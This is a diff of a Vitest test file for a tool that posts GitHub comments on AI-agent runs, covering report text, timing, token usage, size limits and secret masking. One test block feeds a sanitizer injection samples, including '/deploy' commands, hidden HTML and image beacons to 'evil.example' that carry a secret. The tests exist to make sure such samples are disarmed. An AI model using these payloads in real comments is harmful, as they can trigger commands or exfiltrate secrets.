@@ -1,10 +1,21 @@
 import { describe, expect, test } from 'vitest';
-import { commentMark, endComment, isOwnComment } from '../../src/feedback/words.ts';
-import type { Run } from '../../src/runs/run.ts';
+import { neutral } from '../../src/feedback/neutral.ts';
+import { endedValues, runningValues } from '../../src/feedback/run-words.ts';
+import { commentMark, finish, isOwnComment, refusalMark } from '../../src/feedback/words.ts';
+import { renderReport } from '../../src/flow/report-texts.ts';
+import type { Profile } from '../../src/profiles/profile.ts';
+import type { Run, TimelineEntry } from '../../src/runs/run.ts';
+import { profileOf } from '../support/flow-events.ts';
+
+const asIs = (text: string): string => text;
+const profile = profileOf('example', { event: 'issue_comment' });
+const mark = commentMark('abc123');
 
 const run = {
   id: 'abc123',
   profile: 'example',
+  repository: 'owner/repository',
+  state: 'ended',
   outcome: 'failed',
   reason: {
     code: 'agent_failed',
@@ -12,34 +23,129 @@ const run = {
     mend: 'Read its last lines.',
   },
   finalMessage: null,
+  usage: null,
+  queuedAt: 0,
+  startedAt: 1_000,
+  endedAt: 96_000,
 } as unknown as Run;
 
+const told = { timeline: [] as TimelineEntry[], nowMs: 100_000, link: '', mask: asIs };
+
+function ended(changes: Partial<Run> = {}, more: Partial<typeof told> = {}, by: Profile = profile): string {
+  const about = { ...told, ...more };
+  return finish(renderReport(by, 'ended', endedValues({ ...run, ...changes }, about)), about.mask, mark);
+}
+
+function running(changes: Partial<Run> = {}, more: Partial<typeof told> = {}): string {
+  const values = runningValues({ ...run, state: 'running', ...changes }, { ...told, ...more });
+  return finish(renderReport(profile, 'running', values), asIs, mark);
+}
+
+const doing = (text: string, kind = 'codex.command'): TimelineEntry => ({
+  seq: 1,
+  at: 0,
+  kind,
+  text,
+  data: {},
+});
+
 describe('the comment about a run', () => {
-  test('says what happened, why, and what to do', () => {
-    const text = endComment(run);
-    expect(text).toContain('**The run failed.**');
+  test('says at its end what happened, why, what to do, how long it took, and with how many tokens', () => {
+    const usage = { inputTokens: 12_345, cachedInputTokens: 10_000, outputTokens: 678, reasoningTokens: 90 };
+    const text = ended({ usage, finalMessage: 'Two tests fail.' });
+    expect(text).toContain('**The run failed.** (after 1 min 35 s)');
     expect(text).toContain('The agent ended with exit code 1.');
     expect(text).toContain('Read its last lines. (`agent_failed`)');
+    expect(text).toContain('> Two tests fail.');
+    expect(text).toContain('12,345 in (10,000 of them cached), 678 out (90 of them reasoning)');
+    expect(text).toContain('run `abc123`, profile `example`');
+    expect(text).not.toContain('its page');
   });
 
-  test('mentions nobody, starts no command, and hides nothing', () => {
-    const text = endComment({
-      ...run,
-      finalMessage: 'Thanks @octocat and @org/team!\n/deploy now\n<!-- hidden -->',
-    });
-    expect(text).not.toMatch(/@octocat|@org/);
-    expect(text).not.toMatch(/^>?\s*\/deploy/m);
-    expect(text.slice(commentMark('abc123').length)).not.toContain('<!--');
+  test('links to the page of the run when there is one, and shows what was published', () => {
+    const text = ended(
+      {},
+      { link: 'https://flows.example/runs/abc123', timeline: [doing('Opened it.', 'published')] },
+    );
+    expect(text).toContain('[its page](https://flows.example/runs/abc123)');
+    expect(text).toContain('Opened it.');
+  });
+
+  test('says while the run goes on where it is, for how long, and what the agent did last', () => {
+    const timeline = ['one', 'two', 'three', 'four', 'five', 'six'].map((text) => doing(text));
+    const text = running(
+      {},
+      { timeline: [...timeline, doing('a thread', 'codex.thread')], nowMs: 8 * 60_000 },
+    );
+    expect(text).toContain('**The agent is working.** (for 7 min)');
+    expect(text).toContain('- two\n- three\n- four\n- five\n- six');
+    expect(text).not.toMatch(/- one|a thread/);
+  });
+
+  test('changes with the minutes at first, and ever more rarely', () => {
+    const at = (minutes: number): string => running({ startedAt: 0 }, { nowMs: minutes * 60_000 });
+    expect(at(3)).not.toBe(at(4));
+    expect(at(21)).toBe(at(24));
+    expect(at(76)).toBe(at(89));
+    expect(at(76)).toContain('for 1 h 15 min');
   });
 
   test('fits into what GitHub takes, and says what was cut', () => {
-    const text = endComment({ ...run, finalMessage: 'x'.repeat(500_000) });
+    const text = ended({ finalMessage: 'x'.repeat(500_000) });
     expect(text.length).toBeLessThan(65_536);
-    expect(text).toContain('440000 more characters');
+    expect(text).toContain('[cut: 450000 more characters]');
+    const lines = ended({ finalMessage: '\n'.repeat(50_000) });
+    expect(lines.length).toBeLessThan(65_536);
+    expect(ended({ finalMessage: '😀'.repeat(40_000) }).isWellFormed()).toBe(true);
   });
 
-  test('is known again as our own, and a quotation of it is not', () => {
-    expect(isOwnComment({ payload: { comment: { body: endComment(run) } } })).toBe(true);
+  test('hides secrets, also those that being made harmless or being cut would tear apart', () => {
+    const secret = 'pass@word/with<tags>';
+    const mask = (text: string): string => text.replaceAll(secret, '[masked]');
+    const text = ended({ finalMessage: `${'x'.repeat(49_995)}${secret} ${secret}` }, { mask });
+    expect(text).not.toContain('pass@');
+    expect(text).not.toContain(`${'x'.repeat(100)}pass`);
+  });
+
+  test('has the profile’s own words, and says nothing of what is not there', () => {
+    const own = {
+      ...profile,
+      report: { ...profile.report, templates: { ended: '{{OUTCOME}}!{{#if MESSAGE}} {{MESSAGE}}{{/if}}' } },
+    };
+    expect(ended({}, {}, own)).toBe(`${mark}\nfailed!`);
+  });
+});
+
+describe('text of others', () => {
+  test.each([
+    ['@octocat and @org/team', /@octocat|@org/],
+    ['\\@octocat', /@octocat/],
+    ['&#64;octocat &#x40;octocat &commat;octocat', /&#|&commat/],
+    ['/deploy now', /^\//m],
+    ['  \t/deploy', /^\s*\//m],
+    ['- /deploy\n> /deploy', /^[\s>-]*\//m],
+    ['<!-- hidden -->', /<!--/],
+    ['<img src=https://evil.example/?x>', /<img/],
+    ['<details><summary>', /<[a-z]/],
+    ['![beacon](https://evil.example/?secret)', /!\[/],
+    ['![beacon][1]', /!\[/],
+  ])('%j does nothing on GitHub', (text, forbidden) => {
+    expect(neutral(text)).not.toMatch(forbidden);
+    expect(neutral(neutral(text))).toBe(neutral(text));
+    expect(ended({ finalMessage: text }).slice(mark.length)).not.toMatch(forbidden);
+  });
+
+  test('stays as it is when it is harmless', () => {
+    const text = 'a < b && c > d; see https://example.org/x and `x@` [link](https://example.org) 1/2!';
+    expect(neutral(text)).toBe(text);
+  });
+});
+
+describe('our own comments', () => {
+  test('are known again by their mark, and a quotation of one is not', () => {
+    expect(isOwnComment({ payload: { comment: { body: ended() } } })).toBe(true);
+    expect(isOwnComment({ payload: { comment: { body: `${refusalMark('x')}\nNo.` } } })).toBe(true);
+    expect(isOwnComment({ payload: { review: { body: ended() } } })).toBe(true);
     expect(isOwnComment({ payload: { comment: { body: `> ${commentMark('x')}\nplease` } } })).toBe(false);
     expect(isOwnComment({ payload: { comment: null } })).toBe(false);
     expect(isOwnComment({ payload: {} })).toBe(false);
